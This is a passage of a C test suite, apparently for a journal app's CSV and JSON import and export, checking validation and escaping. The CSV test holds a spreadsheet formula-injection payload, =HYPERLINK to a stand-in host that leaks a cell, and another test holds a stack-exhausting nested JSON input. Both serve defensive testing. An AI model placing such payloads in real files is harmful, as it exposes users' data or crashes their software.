    JSON_START "  \"pain_entries\": [\n" JSON_PAIN (UUID_A, "2026-11-01", "\"2\"", "3") "\n"
    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
    { "line 5", "average", "whole number" } },
  { "a member missing", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [\n    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-01\"}\n"
    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
    { "line 5", "average", "missing" } },
  { "a break of an unknown kind", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [],\n  \"break_events\": [\n"
    JSON_BREAK (UUID_A, "micro") ",\n" JSON_BREAK (UUID_B, "nap") "\n"
    "  ],\n  \"stretch_sessions\": []\n}\n",
    { "line 7", "kind", "nap" } },
  { "one break twice", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [],\n  \"break_events\": [\n"
    JSON_BREAK (UUID_A, "micro") ",\n" JSON_BREAK (UUID_A, "rest") "\n"
    "  ],\n  \"stretch_sessions\": []\n}\n",
    { "line 7", "uuid", "line 6" } },
  /* Times export could not write, or that a journal should not hold. */
  { "a year before 1900", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER UUID_A ",2026-11-01,2,,,,,,,0625-02-02T08:00:00+01:00,2026-11-01T08:00:00+01:00\r\n",
    { "line 2", "created", "1900 to 2199" } },
  { "an update at the end of time", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [\n"
    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-01\", \"average\": 2, \"worst\": null, "
    "\"activity\": null, \"enjoyment\": null, \"regions\": [], \"red_flags\": [], \"note\": null, "
    "\"created\": \"2026-11-01T08:00:00+01:00\", \"updated\": \"9999-12-31T23:00:00-12:00\"}\n"
    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
    { "line 5", "updated", "1900 to 2199" } },
  { "an offset of more than a day", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER UUID_A ",2026-11-01,2,,,,,,,2026-11-01T08:00:00-24:30,2026-11-01T08:00:00+01:00\r\n",
    { "line 2", "created", "18 hours" } },
  { "a break in 2099", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [],\n  \"break_events\": [\n"
    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2099-11-01\", \"kind\": \"micro\", \"outcome\": \"taken\", "
    "\"due\": \"2099-11-01T10:00:00+01:00\", \"end\": \"2099-11-01T10:00:20+01:00\", \"duration_s\": 20}\n"
    "  ],\n  \"stretch_sessions\": []\n}\n",
    { "line 6", "day", "future" } },
  { "a break due the day after tomorrow", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [],\n  \"break_events\": [\n"
    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-25\", \"kind\": \"micro\", \"outcome\": \"taken\", "
    "\"due\": \"2026-11-27T10:00:00+01:00\", \"end\": \"2026-11-27T10:00:20+01:00\", \"duration_s\": 20}\n"
    "  ],\n  \"stretch_sessions\": []\n}\n",
    { "line 6", "due", "future" } },
  /* Numbers beyond 64 bits, which json-glib read as -1. */
  { "a version of 1e20", LIMBER_JOURNAL_FORMAT_JSON,
    "{\n  \"format\": \"limber-journal\",\n  \"version\": 1e20\n}\n",
    { "line 1", "version", "whole number" } },
  { "a score of 2^70", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [\n" JSON_PAIN (UUID_A, "2026-11-01", "1180591620717411303424", "3") "\n"
    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
    { "line 5", "average", "whole number" } },
  { "a score of 2^70 in CSV", LIMBER_JOURNAL_FORMAT_CSV,
    CSV_HEADER ROW (UUID_A, "2026-11-01", "1180591620717411303424", "", ""),
    { "line 2", "average", "1180591620717411303424" } },
  { "a list given twice", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [],\n  \"pain_entries\": [],\n"
    "  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
    { "line 5", "pain_entries", "twice" } },
  { "a note holding U+0000", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [\n"
    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-01\", \"average\": 2, \"worst\": null, "
    "\"activity\": null, \"enjoyment\": null, \"regions\": [], \"red_flags\": [], \"note\": \"a\\u0000b\", "
    "\"created\": \"2026-11-01T08:00:00+01:00\", \"updated\": \"2026-11-01T08:00:00+01:00\"}\n"
    "  ],\n  \"break_events\": [],\n  \"stretch_sessions\": []\n}\n",
    { "line 5", "JSON", "U+0000" } },
  { "a number with a leading zero", LIMBER_JOURNAL_FORMAT_JSON,
    "{\n  \"format\": \"limber-journal\",\n  \"version\": 01\n}\n",
    { "line 3", "JSON", "0" } },
  /* Everything before the last row is fine and new: none of it may stay. */
  { "a bad stretch session last", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [\n" JSON_PAIN (UUID_A, "2026-11-01", "2", "3") "\n"
    "  ],\n  \"break_events\": [\n" JSON_BREAK (UUID_B, "micro") "\n  ],\n"
    "  \"stretch_sessions\": [\n"
    "    {\"uuid\": \"" UUID_C "\", \"day\": \"2026-11-01\", \"activity_id\": \"wall-angels\", "
    "\"start\": \"2026-11-01T10:00:00+01:00\", \"end\": \"2026-11-01T10:02:00+01:00\", \"seconds_done\": 120, "
    "\"completed\": \"yes\", \"pain_before\": null, \"pain_after\": null}\n"
    "  ]\n}\n",
    { "line 11", "completed", NULL } },
  { "too many doses of a medicine", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [],\n  \"break_events\": [],\n  \"stretch_sessions\": [],\n"
    "  \"factors\": [\n"
    "    {\"uuid\": \"d3e3f30e-9a81-4be7-a783-63859763b083\", \"builtin\": \"pain-medication\", \"name\": null, "
    "\"retired\": false, \"created\": \"1970-01-01T00:00:00Z\", \"updated\": \"1970-01-01T00:00:00Z\"}\n  ],\n"
    "  \"day_factors\": [\n"
    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-01\", \"factor\": \"d3e3f30e-9a81-4be7-a783-63859763b083\", "
    "\"medicine\": \"Ibuprofen\", \"doses\": 30, "
    "\"created\": \"2026-11-01T08:00:00+01:00\", \"updated\": \"2026-11-01T08:00:00+01:00\"}\n  ]\n}\n",
    { "line 11", "doses", "30" } },
  { "a day factor of no factor in the file", LIMBER_JOURNAL_FORMAT_JSON,
    JSON_START "  \"pain_entries\": [],\n  \"break_events\": [],\n  \"stretch_sessions\": [],\n"
    "  \"day_factors\": [\n"
    "    {\"uuid\": \"" UUID_A "\", \"day\": \"2026-11-01\", \"factor\": \"" UUID_B "\", "
    "\"medicine\": null, \"doses\": null, "
    "\"created\": \"2026-11-01T08:00:00+01:00\", \"updated\": \"2026-11-01T08:00:00+01:00\"}\n  ]\n}\n",
    { "line 8", "factor", "UUID" } },
};

static void
assert_rejected (Fixture             *fixture,
                 LimberJournalFormat  format,
                 const char          *text,
                 const char * const  *expected)
{
  g_autoptr (GError) error = NULL;
  g_autofree char *before = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_JSON);
  g_autofree char *after = NULL;
  LimberImportCounts counts = { 1, 1, 1 };

  g_assert_false (import_text (fixture->journal, format, text, fixture->now, &counts, &error));
  g_assert_error (error, LIMBER_JOURNAL_ERROR, LIMBER_JOURNAL_ERROR_INVALID_INPUT);
  g_test_message ("%s", error->message);
  for (guint i = 0; i < 3 && expected[i] != NULL; i++)
    {
      if (strstr (error->message, expected[i]) == NULL)
        g_error ("“%s” does not say “%s”", error->message, expected[i]);
    }
  assert_counts (&counts, 0, 0, 0);

  after = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_JSON);
  g_assert_cmpstr (after, ==, before);
}

static void
test_bad_files (Fixture       *fixture,
                gconstpointer  user_data)
{
  g_autofree char *long_note = long_note_csv ();
  const char *long_note_expected[] = { "line 2", "note", "2001" };

  fill_journal (fixture->journal);

  for (guint i = 0; i < G_N_ELEMENTS (bad_files); i++)
    {
      g_test_message ("%s", bad_files[i].name);
      assert_rejected (fixture, bad_files[i].format, bad_files[i].text, bad_files[i].expected);
    }

  assert_rejected (fixture, LIMBER_JOURNAL_FORMAT_CSV, long_note, long_note_expected);

  /* Nested beyond reason, which overflowed the parser's stack. */
  {
    g_autoptr (GString) deep = g_string_new ("{\n\"format\": \"limber-journal\",\n\"pain_entries\": ");
    const char *deep_expected[] = { "line 3", "nest more than 32 deep", NULL };

    for (guint i = 0; i < 200000; i++)
      g_string_append_c (deep, '[');
    assert_rejected (fixture, LIMBER_JOURNAL_FORMAT_JSON, deep->str, deep_expected);
  }
  assert_rows (fixture->journal, N_PAIN, N_BREAKS, N_STRETCH);
}

static void
test_bad_last_row_stores_nothing (Fixture       *fixture,
                                  gconstpointer  user_data)
{
  const char *csv = CSV_HEADER
    ROW (UUID_A, "2026-11-01", "2", "", "")
    ROW (UUID_B, "2026-11-02", "3", "", "")
    ROW (UUID_C, "2026-11-03", "4", "", "")
    ROW (UUID_D, "2026-11-04", "5", "4", "");
  g_autoptr (GError) error = NULL;
  LimberImportCounts counts;

  g_assert_false (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV, csv, fixture->now, &counts, &error));
  g_assert_error (error, LIMBER_JOURNAL_ERROR, LIMBER_JOURNAL_ERROR_INVALID_INPUT);
  g_assert_nonnull (strstr (error->message, "line 5"));
  g_assert_nonnull (strstr (error->message, "worst"));

  assert_rows (fixture->other, 0, 0, 0);
  for (guint day = 1; day <= 4; day++)
    {
      g_autofree char *text = g_strdup_printf ("2026-11-%02u", day);
      g_autoptr (LimberPainEntry) entry = get_entry (fixture->other, text);

      g_assert_null (entry);
    }
}

/* The same record written with capitals is the same record, stored and
 * exported in lower case. */
static void
test_uuid_case (Fixture       *fixture,
                gconstpointer  user_data)
{
  const char *upper = JSON_START "  \"pain_entries\": [\n"
    JSON_PAIN ("3F2B8C1E-4D5A-4B6C-9D7E-8F9A0B1C2D3E", "2026-11-01", "2", "3") "\n"
    "  ],\n  \"break_events\": [\n" JSON_BREAK ("7A1C2D3E-5F60-4718-89AB-CDEF01234567", "micro") "\n"
    "  ],\n  \"stretch_sessions\": []\n}\n";
  const char *lower = JSON_START "  \"pain_entries\": [\n" JSON_PAIN (UUID_A, "2026-11-01", "2", "3") "\n"
    "  ],\n  \"break_events\": [\n" JSON_BREAK (UUID_B, "micro") "\n"
    "  ],\n  \"stretch_sessions\": []\n}\n";
  g_autoptr (GError) error = NULL;
  g_autofree char *exported = NULL;
  LimberImportCounts counts;

  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON, upper, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, 2, 0, 0);
  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON, lower, fixture->now, &counts, &error));
  g_assert_no_error (error);
  assert_counts (&counts, 0, 0, 2);
  assert_rows (fixture->other, 1, 1, 0);

  exported = export_text (fixture->other, LIMBER_JOURNAL_FORMAT_JSON);
  g_assert_nonnull (strstr (exported, UUID_A));
  g_assert_nonnull (strstr (exported, UUID_B));
}

/* However a time was written, it is stored as its moment and offset and
 * written back one way. */
static void
test_time_normalised (Fixture       *fixture,
                      gconstpointer  user_data)
{
  const char *csv = CSV_HEADER
    UUID_A ",2026-11-01,2,,,,,,,2026-11-01T07:00:00.750Z,2026-11-01T08:00:00+01:00\r\n";
  g_autoptr (GError) error = NULL;
  g_autofree char *exported = NULL;
  LimberImportCounts counts;

  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV, csv, fixture->now, &counts, &error));
  g_assert_no_error (error);
  exported = export_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV);
  g_assert_nonnull (strstr (exported, ",2026-11-01T07:00:00+00:00,2026-11-01T08:00:00+01:00\r\n"));
}

/* Notes a spreadsheet would run as formulas go out as text after a “'”,
 * and come back exactly as they were. */
static void
test_csv_formulas (Fixture       *fixture,
                   gconstpointer  user_data)
{
  static const char *notes[] = {
    "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Click\")",
    "+1 since Monday", "-2 after stretching", "@physio", "\tindented", "\rreturn",
    "'=already quoted", "''+twice", "'just a quote", "plain = fine", "",
  };
  g_autofree char *csv = NULL;
  g_autoptr (GError) error = NULL;
  LimberImportCounts counts;

  for (guint i = 0; i < G_N_ELEMENTS (notes); i++)
    {
      g_autofree char *day = g_strdup_printf ("2026-11-%02u", i + 1);
      g_autoptr (LimberPainEntry) entry = limber_pain_entry_new (day);

      entry->average = 2;
      limber_pain_entry_set_note (entry, notes[i]);
      save_entry (fixture->journal, entry, fixture->now);
    }

  csv = export_text (fixture->journal, LIMBER_JOURNAL_FORMAT_CSV);
  g_test_message ("%s", csv);
  g_assert_nonnull (strstr (csv, ",\"'=HYPERLINK("));
  g_assert_nonnull (strstr (csv, ",'+1 since Monday,"));
  g_assert_nonnull (strstr (csv, ",'-2 after stretching,"));
  g_assert_nonnull (strstr (csv, ",'@physio,"));
  g_assert_nonnull (strstr (csv, ",'\tindented,"));
  g_assert_nonnull (strstr (csv, ",\"'\rreturn\","));
  g_assert_nonnull (strstr (csv, ",''=already quoted,"));
  g_assert_nonnull (strstr (csv, ",'''+twice,"));
  g_assert_nonnull (strstr (csv, ",'just a quote,"));
  g_assert_nonnull (strstr (csv, ",plain = fine,"));
  /* No cell starts with what a spreadsheet would run. */
  for (const char *c = "=+-@\t"; *c != '\0'; c++)
    {
      char bare[] = { ',', *c, '\0' };
      char quoted[] = { ',', '"', *c, '\0' };

      g_assert_null (strstr (csv, bare));
      g_assert_null (strstr (csv, quoted));
    }

  g_assert_true (import_text (fixture->other, LIMBER_JOURNAL_FORMAT_CSV, csv, fixture->now, &counts, &error));
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (notes); i++)
    {
      g_autofree char *day = g_strdup_printf ("2026-11-%02u", i + 1);
      g_autoptr (LimberPainEntry) entry = get_entry (fixture->other, day);

      g_assert_cmpstr (entry->note != NULL ? entry->note : "", ==, notes[i]);
    }
}

/* A file too large is refused before it is read, naming the file and the
 * limit; one within it loads whole; what is no file or pipe is refused,
 * and nothing waits for ever. */
static void
test_import_loading (Fixture       *fixture,
                        gconstpointer  user_data)
{
  g_autofree char *big_path = g_build_filename (fixture->dir, "huge.json", NULL);
  g_autofree char *small_path = g_build_filename (fixture->dir, "small.json", NULL);
  g_autoptr (GFile) big = g_file_new_for_path (big_path);
  g_autoptr (GFile) small = g_file_new_for_path (small_path);
  g_autoptr (GBytes) data = NULL;
  g_autoptr (GError) error = NULL;
  int fd;

  /* Sparse: it takes no room on the disk. */
  fd = open (big_path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  g_assert_cmpint (fd, >=, 0);
  g_assert_cmpint (ftruncate (fd, (off_t) LIMBER_JOURNAL_IMPORT_MAX_BYTES + 1), ==, 0);
  close (fd);

  data = limber_journal_load_import (big, &error);
  g_assert_null (data);
  g_assert_error (error, LIMBER_JOURNAL_ERROR, LIMBER_JOURNAL_ERROR_INVALID_INPUT);
  g_test_message ("%s", error->message);
  g_assert_nonnull (strstr (error->message, big_path));
  g_assert_nonnull (strstr (error->message, "512.0"));
  g_assert_nonnull (strstr (error->message, "MiB"));
  g_clear_error (&error);

  g_file_set_contents (small_path, "{}", -1, &error);
  g_assert_no_error (error);
  data = limber_journal_load_import (small, &error);
  g_assert_no_error (error);
  g_assert_cmpmem (g_bytes_get_data (data, NULL), g_bytes_get_size (data), "{}", 2);
  g_clear_pointer (&data, g_bytes_unref);

  /* A device would give for ever; a folder is no file. */
  for (guint i = 0; i < 2; i++)
    {
      g_autoptr (GFile) other = g_file_new_for_path (i == 0 ? "/dev/zero" : fixture->dir);

      data = limber_journal_load_import (other, &error);
      g_assert_null (data);
      g_assert_error (error, LIMBER_JOURNAL_ERROR, LIMBER_JOURNAL_ERROR_INVALID_INPUT);
      g_test_message ("%s", error->message);
      g_assert_nonnull (strstr (error->message, i == 0 ? "device" : "folder"));
      g_clear_error (&error);
    }

  /* A named pipe nobody writes to reads as empty, without waiting. */
  {
    g_autofree char *fifo_path = g_build_filename (fixture->dir, "pipe", NULL);
    g_autoptr (GFile) fifo = g_file_new_for_path (fifo_path);

    g_assert_cmpint (mkfifo (fifo_path, 0600), ==, 0);
    data = limber_journal_load_import (fifo, &error);
    g_assert_no_error (error);
    g_assert_cmpuint (g_bytes_get_size (data), ==, 0);
  }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("/journal-transfer/csv/format", test_csv_format);
  ADD ("/journal-transfer/csv/round-trip", test_csv_round_trip);
  ADD ("/journal-transfer/csv/lenient", test_lenient_csv);
  ADD ("/journal-transfer/json/round-trip", test_json_round_trip);
  ADD ("/journal-transfer/json/factor-name-clash", test_factor_name_clash);
  ADD ("/journal-transfer/reimport-changes-nothing", test_reimport_changes_nothing);
  ADD ("/journal-transfer/newer-wins", test_newer_wins);
  ADD ("/journal-transfer/bad-files", test_bad_files);
  ADD ("/journal-transfer/bad-last-row-stores-nothing", test_bad_last_row_stores_nothing);
  ADD ("/journal-transfer/uuid-case", test_uuid_case);
  ADD ("/journal-transfer/time-normalised", test_time_normalised);
  ADD ("/journal-transfer/csv/formulas", test_csv_formulas);
  ADD ("/journal-transfer/import-loading", test_import_loading);
#undef ADD

  return g_test_run ();
}
